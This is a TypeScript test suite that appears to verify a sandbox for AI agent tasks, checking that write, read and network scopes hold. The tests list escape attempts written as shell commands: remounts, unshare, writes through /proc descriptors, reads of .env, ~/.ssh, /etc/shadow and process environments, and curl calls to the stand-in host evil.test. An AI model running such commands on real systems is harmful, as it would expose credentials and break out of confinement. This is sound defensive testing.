/** What an agent may see, write and reach, through the real command, in real repositories. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmod, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import path from 'node:path';
import { once } from 'node:events';
import { describe, expect, it } from 'vitest';
import { bosun } from '../fixtures/cli.ts';
import { processesWith, runFenced, startFenced, told } from '../fixtures/fenced-run.ts';
import { makeRepository } from '../fixtures/repository.ts';

const FILES = {
  'README.md': 'readme\n',
  'package.json': '{}\n',
  'package-lock.json': '{}\n',
  'src/a.ts': 'a\n',
  'src/b.ts': 'b\n',
  'src/deep/c.ts': 'c\n',
  'docs/d.md': 'd\n',
  'secrets/key': 'hidden-key\n',
  '.env': 'hidden-env\n',
};

/** Runs each line by itself; prints those that worked. */
function tried(lines: string[]): string {
  return lines
    .map((line) => `if (${line}) 2>/dev/null; then echo 'worked: ${line.replaceAll("'", '')}'; fi`)
    .join('\n');
}

function indented(text: string): string {
  return text
    .split('\n')
    .map((line) => `      ${line}`)
    .join('\n');
}

describe('a scope of nothing', () => {
  it('keeps every byte as it is, and lets the agent commit', async () => {
    await using repository = await makeRepository({ files: FILES });
    const attacks = [
      'echo x >> src/a.ts',
      'echo x > src/new.ts',
      'echo x > new.ts',
      'mkdir made',
      'rm src/a.ts',
      'rm -r src',
      'mv src/a.ts src/z.ts',
      'mv src moved',
      'chmod 600 src/a.ts',
      'touch src/a.ts',
      'ln src/a.ts /tmp/linked',
      'ln src/a.ts src/linked',
      'ln -s a.ts src/symbolic',
      "perl -e 'truncate(q(src/a.ts), 0) or exit 1'",
      "perl -e 'open(F, q(+<), q(src/a.ts)) or exit 1'",
      // a descriptor that was opened for reading, opened again for writing
      'exec 9< src/a.ts; echo x > /proc/self/fd/9',
      'mount -o remount,rw,bind .',
      "unshare -Ur sh -c 'mount -o remount,rw,bind . && echo x >> src/a.ts'",
    ];
    const run = await runFenced(
      repository,
      `tasks:
  work:
    scope: { write: [] }
    run: |
${indented(`${tried(attacks)}
before=$(git rev-list --count HEAD)
git commit --quiet --allow-empty -m inside && echo "commits: $before, $(git rev-list --count HEAD)"
git status --short
cat src/a.ts`)}
`,
    );
    expect(run.ended('work').outcome).toEqual({ kind: 'done' });
    expect(run.printed('work')).toBe('commits: 1, 2\na\n');
    expect(run.ended('work').collected).toMatchObject({ changed: [], refused: [] });
    expect(run.ended('work').collected?.outside).toBeUndefined();
    expect(await repository.git('rev-list', '--count', 'HEAD')).toBe('1');
  });
});

describe('a scope of write globs', () => {
  it('opens directories and single files, and nothing beside them', async () => {
    await using repository = await makeRepository({ files: FILES });
    const run = await runFenced(
      repository,
      `concurrency: 8
tasks:
  directory:
    scope: { write: [src/**] }
    run: |
${indented(`echo more >> src/a.ts; echo new > src/new.ts; mkdir -p src/x/y; echo new > src/x/y/z.ts
rm src/b.ts; mv src/deep src/moved
${tried(['echo x >> README.md', 'rm docs/d.md', 'echo x > new.ts', 'mv src gone'])}`)}
  place: { scope: { write: [package.json] }, run: echo 1 >> package.json }
  editor:
    scope: { write: [docs/d.md] }
    run: |
${indented(`echo edited > docs/.d.md.tmp && mv docs/.d.md.tmp docs/d.md
${tried(['echo x >> README.md', 'echo x >> src/a.ts'])}`)}
  fresh: { scope: { write: [new.json] }, run: 'echo 3 > new.json; echo x > other.json' }
  lock:
    scope: { write: [package-lock.json] }
    run: |
${indented(`rm package-lock.json
${tried(['echo x >> package.json', 'rm README.md', 'echo x > package.json', 'echo x >> src/a.ts', 'mv package.json x'])}`)}
  missing:
    scope: { write: [web/app/**, 'lib/*.ts'] }
    run: |
${indented(`mkdir -p web/app/deep; echo 1 > web/app/deep/x; echo 2 > lib/y.ts
${tried(['echo x > web/z', 'mkdir other', 'echo x >> src/a.ts'])}`)}
`,
    );
    const names = ['directory', 'place', 'editor', 'fresh', 'lock', 'missing'];
    for (const name of names) {
      expect.soft([name, run.ended(name).outcome]).toEqual([name, { kind: 'done' }]);
      expect.soft(run.printed(name)).toBe('');
    }
    expect(Object.fromEntries(names.map((name) => [name, run.changed(name)]))).toEqual({
      directory: [
        'A src/moved/c.ts',
        'A src/new.ts',
        'A src/x/y/z.ts',
        'D src/b.ts',
        'D src/deep/c.ts',
        'M src/a.ts',
      ],
      place: ['M package.json'],
      editor: ['M docs/d.md'],
      lock: ['D package-lock.json'],
      fresh: ['A new.json'],
      missing: ['A lib/y.ts', 'A web/app/deep/x'],
    });
    // New files beside a single one are for the merge to refuse.
    expect(run.ended('fresh').collected?.outside?.files.map((file) => file.path)).toEqual(['other.json']);
    expect((await bosun(repository.path, 'merge')).code).toBe(0);
    expect(await repository.git('ls-files')).toBe(
      ['.env', 'README.md', 'docs/d.md', 'lib/y.ts', 'new.json', 'package.json', 'secrets/key', 'src/a.ts']
        .concat(['src/moved/c.ts', 'src/new.ts', 'src/x/y/z.ts', 'web/app/deep/x'])
        .join('\n'),
    );
    expect(await repository.git('show', 'HEAD:docs/d.md')).toBe('edited');
  });
});

describe('a scope of what can be seen', () => {
  it('hides, and shows further paths to read', async () => {
    await using repository = await makeRepository({ files: { ...FILES, '.gitignore': 'ignored/\n' } });
    const outside = await mkdtemp(path.join(tmpdir(), 'bosun-outside-'));
    const home = await mkdtemp(path.join(homedir(), '.bosun-test-'));
    try {
      await writeFile(path.join(outside, 'file'), 'from outside\n');
      await writeFile(path.join(outside, 'other'), 'not named\n');
      await writeFile(path.join(home, 'file'), 'from home\n');
      await chmod(home, 0o755); // a root engine's commands are not root: what is private to it stays so
      await repository.write({ 'ignored/file': 'from ignored\n' });
      const named = `~/${path.basename(home)}`;
      const command = `cat ${outside}/file ${home}/file ${repository.path}/ignored/file
${tried([`cat ${outside}/other`, `echo x >> ${home}/file`, `ls ${homedir()}/.ssh`, `cat ${repository.path}/src/a.ts`])}
${tried(['cat .env', 'cat secrets/key', 'git show HEAD:.env', 'git show HEAD:secrets/key', 'git grep -q hidden-key $(git rev-list --all)'])}
git log --oneline -- .env secrets | wc -l; echo x > ${outside}/new; git status --short; ls`;
      const run = await runFenced(
        repository,
        `tasks:
  work:
    scope: { read: [${outside}/file, '${named}', ignored], hide: [.env, secrets/**] }
    run: |
${indented(command)}
`,
      );
      expect(run.ended('work').outcome).toEqual({ kind: 'done' });
      expect(run.printed('work')).toBe(
        'from outside\nfrom home\nfrom ignored\n0\nREADME.md\ndocs\npackage-lock.json\npackage.json\nsrc\n',
      );
      expect(await readdir(outside)).toEqual(['file', 'other']);
    } finally {
      await Promise.all([outside, home].map((directory) => rm(directory, { recursive: true })));
    }
  });

  it('reads what it names of /etc, and /etc stays as it is', async () => {
    await using repository = await makeRepository({ files: FILES });
    const run = await runFenced(
      repository,
      `tasks:
  work:
    scope: { read: [/etc/login.defs] }
    run: |
      grep -c ^UID_MIN /etc/login.defs; head -1 /etc/passwd
${indented(tried(['echo x > /etc/new', 'mv /etc/login.defs /etc/x', 'rm /etc/hosts', 'cat /etc/shadow']))}
`,
    );
    expect(run.ended('work').outcome).toEqual({ kind: 'done' });
    expect(run.printed('work')).toBe('1\nroot:x:0:0:root:/:/usr/sbin/nologin\n');
  });

  it('has the variables of the scope and none of the engine, and no list of processes shows them', async () => {
    await using repository = await makeRepository({ files: FILES });
    const secret = `engine-secret-${process.pid}`;
    const own = `scope-value-${process.pid}`;
    await using started = await startFenced(
      repository,
      `tasks:
  work:
    scope: { env: { OWN: ${own} } }
    run: |
      env; tr '\\0' '\\n' < /proc/self/environ; tr '\\0' '\\n' < /proc/1/environ
      cat /proc/*/cmdline | tr '\\0' '\\n'; sleep 1
`,
      { SECRET_TOKEN: secret, AWS_SECRET_ACCESS_KEY: secret, SSH_AUTH_SOCK: '/tmp/agent', NODE_OPTIONS: '' },
    );
    await started.prints(own);
    const lines = processesWith(own, 'command line');
    const run = told(await started.finished);
    expect(lines).toEqual([]);
    const printed = run.printed('work');
    expect(printed).toContain(`OWN=${own}\n`);
    expect(printed).not.toMatch(new RegExp(`${secret}|SSH_AUTH_SOCK|NODE_OPTIONS`));
    expect(printed).toMatch(/^HOME=\/home\/agent$/m);
  });
});

/** What a server of this machine answers while `use` runs. */
async function withServer(use: (port: number) => Promise<void>): Promise<string[]> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url!);
    response.end(`served ${request.url}\n`);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  try {
    await use((server.address() as AddressInfo).port);
  } finally {
    server.closeAllConnections();
    server.close();
  }
  return asked;
}

describe('a scope of the network', () => {
  it('is nothing by default: no port of this machine, no name, no way out', async () => {
    await using repository = await makeRepository({ files: FILES });
    const asked = await withServer(async (port) => {
      const run = await runFenced(
        repository,
        `tasks:
  work:
    run: |
${indented(
  `${tried([
    `curl -s -m 2 http://127.0.0.1:${port}/none`,
    `curl -s -m 2 http://localhost:${port}/none`,
    'getent hosts example.com',
    "perl -MSocket -e 'exit !defined gethostbyname q(example.com)'",
    // a question to a server of names, as a program that knows its address would ask it
    "perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(192.0.2.1:53)) or exit 1; exit !$s->send(q(x))'",
  ])}
ls /sys/class/net 2>/dev/null; cut -d: -f1 /proc/net/dev | tail -n +3 | tr -d ' '; cat /etc/resolv.conf 2>/dev/null; env | grep -i proxy`,
)}
      true
`,
      );
      expect(run.ended('work').outcome).toEqual({ kind: 'done' });
      expect(run.printed('work')).toBe('lo\n');
    });
    expect(asked).toEqual([]);
  });

  it('is each agent’s own, over real sockets at the same time; what is denied is told with its name', async () => {
    await using repository = await makeRepository({ files: FILES });
    const asked = await withServer((one) =>
      withServer(async (two) => {
        const ask = [one, two].map(
          (port) => `curl -s -m 5 --noproxy '' http://localhost:${port}/$BOSUN_TASK`,
        );
        const agent = (port: number): string => `
    scope: { network: ['localhost:${port}'] }
    run: |
      ${ask.join('; ')}
      curl -s -m 5 https://evil.test/$BOSUN_TASK; curl -s -m 5 http://127.0.0.2:${port}/
      getent hosts evil.test
      true
`;
        const run = await runFenced(repository, `tasks:\n  first:${agent(one)}  second:${agent(two)}`);
        expect(run.printed('first')).toContain('served /first\nbosun: localhost:');
        expect(run.printed('second')).toContain('"localhost:');
        expect(run.printed('second')).toContain('served /second\n');
        const denied = (task: string): string[] =>
          run.events
            .flatMap((event) => (event.type === 'attempt.denied' && event.task === task ? [event] : []))
            .map(({ host, port }) => `${host}:${port}`)
            .toSorted();
        expect(denied('first')).toEqual([`127.0.0.2:${one}`, 'evil.test:443', `localhost:${two}`]);
        expect(denied('second')).toEqual([`127.0.0.2:${two}`, 'evil.test:443', `localhost:${one}`]);
      }).then((seen) => expect(seen).toEqual(['/second'])),
    );
    expect(asked).toEqual(['/first']);
  });

  it('gives each attempt a loopback of its own: ten can listen on port 3000 at once', async () => {
    await using repository = await makeRepository({ files: FILES });
    const serve = `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Listen => 5, LocalAddr => q(127.0.0.1:3000)) or die; sleep 1; while (my $c = $s->accept) { print $c qq($ARGV[0]\\n); close $c }' "$0" &
      sleep 1.5; perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(q(127.0.0.1:3000))->getline'`;
    const run = await runFenced(
      repository,
      `concurrency: 10
tasks:
  each:
    for-each: [a, b, c, d, e, f, g, h, i, j]
    workspace: none
    run: |
      set -- "\${{ each }}"
      ${serve.replace('"$0"', '"$1"')}
`,
    );
    const letters = [...'abcdefghij'];
    expect(letters.map((_, n) => run.printed(`each.${n + 1}`))).toEqual(
      letters.map((letter) => `${letter}\n`),
    );
  });
});
